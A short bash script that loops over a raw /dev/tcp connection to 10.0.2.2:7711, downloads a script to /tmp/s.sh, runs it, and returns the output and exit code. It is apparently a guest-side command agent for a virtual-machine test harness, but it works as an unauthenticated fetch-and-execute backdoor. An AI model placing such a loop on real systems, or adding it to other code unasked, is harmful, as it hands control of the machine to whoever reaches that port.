while true; do
  timeout 600 bash -c 'exec 4<>/dev/tcp/10.0.2.2/7711; cat <&4 >/tmp/s.sh; bash /tmp/s.sh >&4 2>&1; echo "EXIT $?" >&4' 3>&- 2>/dev/null || true
  sleep 0.3
done
